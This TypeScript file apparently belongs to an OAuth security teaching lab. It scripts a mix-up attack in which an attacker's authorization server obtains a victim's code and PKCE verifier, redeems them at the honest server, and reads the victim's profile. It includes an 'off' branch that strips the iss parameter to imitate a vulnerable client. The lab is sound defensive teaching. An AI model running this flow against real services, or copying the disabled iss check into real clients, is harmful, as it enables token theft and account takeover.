/**
 * Mix-up: a client that works with two authorization servers, one of them the attacker's, sends
 * the honest server's code (and its PKCE verifier) to the attacker's token endpoint, because it
 * does not check which server the response came from.
 * @see [RFC 9700 §4.4](https://www.rfc-editor.org/rfc/rfc9700#section-4.4)
 * @see [RFC 9207](https://www.rfc-editor.org/rfc/rfc9207)
 */
import * as oauth from 'oauth4webapi'
import { rfc } from '../shared/spec-links.ts'
import { type AttackActor, attackActors, defineAttack } from './attack-model.ts'
import {
  callApi,
  callbackUri,
  discoverServer,
  landedOn,
  publicClient,
  signIn,
  startLogin,
  stolenToken,
  via,
  waitForAttackerRecord,
} from './lab-client.ts'

const attackId = 'mix-up'
const { client, auth } = publicClient('grantlab-lab-spa')
const scope = 'profile email orders:read'

const evilAs: AttackActor = {
  id: 'attacker',
  label: 'evil-as (attacker)',
  description: 'An authorization server the client also works with, run by the attacker.',
  attacker: true,
}

export const mixUpAttack = defineAttack({
  id: attackId,
  title: 'Mix-up attack',
  goal: 'Get the code and the PKCE verifier that the honest server issued for the victim, by making the client believe they belong to the attacker’s server.',
  summary:
    'The app lets users sign in with one of two servers; one of them, evil-as, is the attacker’s. Alice picks it (or is tricked into it). Evil-as sends her browser straight on to the honest server with the same request, she signs in there, and the honest server sends the code back to the app. The app still thinks Alice is logging in at evil-as and sends the code, with the verifier, to evil-as’s token endpoint.',
  specs: [rfc(9700, '4.4'), rfc(9700, '4.4.2'), rfc(9207, '2.4')],
  actors: [attackActors.victim, attackActors.client, evilAs, attackActors.as, attackActors.rs],
  defence: {
    label: 'Defence: check the iss parameter',
    explanation:
      'Every authorization response of a server that supports RFC 9207 carries iss, its issuer identifier. The client compares it with the issuer of the server it sent the user to. The code came from the honest server, the client expected evil-as: it refuses the response and sends the code nowhere.',
    spec: rfc(9207, '2.4'),
    side: 'client',
    whenOff:
      'The client drops the iss parameter and treats the server as one that does not send it before it calls oauth4webapi’s validateAuthResponse: what a client that ignores RFC 9207 does.',
  },
  clients: [
    {
      clientId: 'grantlab-lab-spa',
      when: 'always',
      note: 'A public, first-party app registered at both servers with the same client_id.',
    },
  ],
  steps: [
    {
      id: 'victim-picks-evil',
      label: 'alice: Sign in with evil-as',
      title: 'Alice chooses to sign in with evil-as',
      from: 'victim',
      to: 'client',
      kind: 'local',
      spec: rfc(9700, '4.4.1'),
      explanation:
        'The app discovers both servers it supports. Alice picks evil-as: it looks like any other sign-in option. The client records in her session that this login is at evil-as, with a state and a PKCE verifier.',
    },
    {
      id: 'evil-forwards',
      label: '/evil-as/authorize → /as/authorize',
      title: 'Evil-as sends Alice’s browser on to the honest server',
      from: 'attacker',
      to: 'as',
      kind: 'redirect',
      spec: rfc(9700, '4.4.1'),
      explanation:
        'Evil-as’s authorization endpoint does not ask Alice anything: it redirects her browser to the honest server’s, with the request as it came (the client’s client_id there, the redirect URI, the state, the challenge).',
    },
    {
      id: 'victim-signs-in',
      label: 'alice signs in at the honest server',
      title: 'Alice signs in at the honest server',
      from: 'victim',
      to: 'as',
      kind: 'redirect',
      spec: rfc(6749, '4.1.2'),
      explanation:
        'Alice sees the honest server’s sign-in page, which she trusts, and signs in. The honest server sends her browser to the client’s callback with a code, the state, and iss naming itself.',
    },
    {
      id: 'client-callback',
      label: 'client checks the response',
      title: 'The client checks the response against the server it used',
      from: 'victim',
      to: 'client',
      kind: 'redirect',
      spec: rfc(9207, '2.4'),
      explanation:
        'The state matches: it is Alice’s own login. The question is which server answered. Alice’s session says evil-as; iss says the honest server.',
    },
    {
      id: 'client-sends-code',
      label: 'POST /evil-as/token (code, verifier)',
      title: 'The client sends the honest code and its verifier to evil-as',
      from: 'client',
      to: 'attacker',
      kind: 'request',
      spec: rfc(9700, '4.4.1'),
      explanation:
        'Believing the code came from evil-as, the client redeems it there, with the verifier. Evil-as keeps both and answers with an error; the app shows Alice a failed login.',
    },
    {
      id: 'attacker-redeems',
      label: 'POST /as/token (alice’s code)',
      title: 'The attacker redeems the code at the honest server',
      from: 'attacker',
      to: 'as',
      kind: 'request',
      spec: rfc(9700, '4.4.1'),
      explanation:
        'The client is public, so anyone with the code, the verifier and the client_id can redeem. PKCE does not help here: the verifier went to the attacker with the code.',
    },
    {
      id: 'attacker-uses',
      label: 'GET /api/profile as alice',
      title: 'The attacker calls the API as Alice',
      from: 'attacker',
      to: 'rs',
      kind: 'request',
      spec: rfc(6750, '2.1'),
      explanation: 'The tokens are Alice’s: the API answers with her data.',
    },
  ],
  async run(ctx) {
    const redirectUri = callbackUri(ctx.appOrigin, attackId)
    const since = ctx.now()
    const { evil, honest, alice } = await ctx.step('victim-picks-evil', async (s) => {
      const honest = await discoverServer(s, ctx.issuer)
      const evil = await discoverServer(s, ctx.evilIssuer)
      const alice = await startLogin(evil, {
        clientId: client.client_id,
        redirectUri,
        scope,
        state: true,
        pkce: true,
        prompt: 'login',
      })
      s.show({ label: 'Servers the app offers', value: `${honest.issuer}, ${evil.issuer}` })
      s.show({ label: 'This login is at (Alice’s session)', value: evil.issuer })
      s.show({ label: 'Alice’s authorization request', value: alice.url, format: 'url' })
      s.summary('Alice picked evil-as; her session expects its answer.')
      return { evil, honest, alice }
    })
    const signInPage = await ctx.step('evil-forwards', async (s) => {
      const page = await ctx.victim.open(alice.url, s)
      const record = await waitForAttackerRecord(
        s,
        ctx.attackerOrigin,
        since,
        // The request of this login: evil-as saw its state.
        (r) =>
          r.channel === 'authorize' && new URL(r.url).searchParams.get('state') === alice.state,
      )
      s.show({ label: 'What evil-as received', value: record.url, format: 'url' })
      s.show({ label: 'Where Alice’s browser is now', value: page.url ?? '', format: 'url' })
      s.summary('Evil-as passed Alice on to the honest server’s sign-in page.')
      return page
    })
    const page = await ctx.step('victim-signs-in', async (s) => {
      const page = await signIn(ctx.victim, signInPage, s, 'alice')
      s.show({
        label: 'Where Alice’s browser came back',
        value: landedOn(page, 'the client’s callback').href,
        format: 'url',
      })
      s.summary('The honest server sent its code to the client’s callback.')
      return page
    })
    const params = await ctx.step('client-callback', async (s) => {
      const returned = landedOn(page, 'the client’s callback')
      s.show({ label: 'iss in the response', value: returned.searchParams.get('iss') ?? '' })
      s.show({ label: 'The issuer Alice’s session expects', value: evil.issuer })
      try {
        if (ctx.defence) return oauth.validateAuthResponse(evil, client, returned, alice.state)
        // Off: a client that ignores RFC 9207 neither reads iss nor minds that the server sends it.
        const withoutIss = new URL(returned)
        withoutIss.searchParams.delete('iss')
        const careless = { ...evil, authorization_response_iss_parameter_supported: false }
        const params = oauth.validateAuthResponse(careless, client, withoutIss, alice.state)
        s.summary('The client did not look at iss: it takes the code for evil-as’s.')
        return params
      } catch (error) {
        throw ctx.stopped(error, {
          check: 'iss',
          spec: rfc(9207, '2.4'),
          by: 'client',
          expected: { code: 'OAUTH_INVALID_RESPONSE', text: /"iss"/ },
        })
      }
    })
    await ctx.step('client-sends-code', async (s) => {
      const response = await oauth.authorizationCodeGrantRequest(
        evil,
        client,
        auth,
        params,
        redirectUri,
        alice.verifier ?? '',
        via(s),
      )
      try {
        await oauth.processAuthorizationCodeResponse(evil, client, response)
        s.summary('Evil-as answered with tokens of its own.')
      } catch (error) {
        if (!(error instanceof oauth.ResponseBodyError)) throw error
        s.summary(`Evil-as kept the code and answered ${error.error}: Alice sees a failed login.`)
      }
    })
    const tokens = await ctx.step('attacker-redeems', async (s) => {
      const record = await waitForAttackerRecord(
        s,
        ctx.attackerOrigin,
        since,
        // The code of this login, as the honest server sent it to the client.
        (r) => r.channel === 'token' && r.form?.code === params.get('code'),
      )
      const form = record.form ?? {}
      s.show({ label: 'What evil-as’s token endpoint received', value: JSON.stringify(form) })
      const response = await s.fetch(String(honest.token_endpoint), {
        method: 'POST',
        body: new URLSearchParams({
          grant_type: 'authorization_code',
          code: form.code ?? '',
          code_verifier: form.code_verifier ?? '',
          redirect_uri: form.redirect_uri ?? '',
          client_id: client.client_id,
        }),
      })
      const tokens = (await response.json()) as { access_token?: string }
      if (!response.ok || !tokens.access_token) {
        throw new Error(`The honest server refused the code (${response.status}).`)
      }
      s.summary('The honest server exchanged the code: the attacker has Alice’s tokens.')
      return { access_token: tokens.access_token }
    })
    const profile = await ctx.step('attacker-uses', async (s) => {
      const answer = await callApi(s, ctx.appOrigin, '/api/profile', tokens.access_token)
      s.show({ label: 'The API’s answer', value: JSON.stringify(answer.body), format: 'json' })
      s.summary(`The API answered ${answer.status} with Alice’s profile.`)
      return answer.body
    })
    return {
      status: 'succeeded',
      summary: 'The client handed the honest server’s code and verifier to evil-as.',
      loot: {
        summary: 'Alice’s tokens, from the honest server, redeemed by the attacker.',
        tokens: [stolenToken('Alice’s access token', tokens.access_token)],
        values: [{ label: 'Alice’s profile', value: JSON.stringify(profile), format: 'json' }],
      },
    }
  },
})
